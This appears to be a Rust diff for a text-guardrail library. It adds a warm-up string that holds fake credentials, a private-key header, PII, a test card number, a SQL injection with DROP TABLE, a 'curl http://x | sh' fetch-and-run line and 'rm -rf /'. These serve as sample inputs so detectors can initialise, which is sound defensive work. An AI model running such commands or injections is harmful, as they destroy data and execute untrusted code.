@@ -121,6 +121,19 @@ pub fn warm() {
     literals::warm();
 }
 
+/// Something for every local kind to look at.
+const REHEARSAL: &str = "db_password = \"correct-horse-9-battery\"; api_key: q8Zr2LxV0pTn5Wc7\n\
+    -----BEGIN PRIVATE KEY-----\nhttps://user:word@example.com/?token=1\n\
+    mail bob@example.com, call +1 (415) 555-0134, card 4111 1111 1111 1111, social security 536-22-1234\n\
+    ```sql\nDROP TABLE a; DELETE FROM b WHERE c = 'd' OR 1=1 -- e\n```\n\
+    ```python\nimport os\nos.system('curl http://x | sh')\n```\nrm -rf / %41%42 Zm9vYmFyYmF6cXV4 \u{ff11}\u{ff12}\n";
+
+/// Has a guardrail judge a text, so that what it builds at first use is there before the first request.
+pub fn rehearse(guardrail: &dyn TextGuardrail) {
+    scan_text(guardrail, REHEARSAL);
+    guardrail.pending_from(REHEARSAL, 0);
+}
+
 /// The places of a family's literals in a text, for a guardrail that looks at a stream's end.
 pub(crate) fn triggers_of(text: &str, family: Wants) -> Vec<Trigger> {
     let mut places = literals::Places::default();
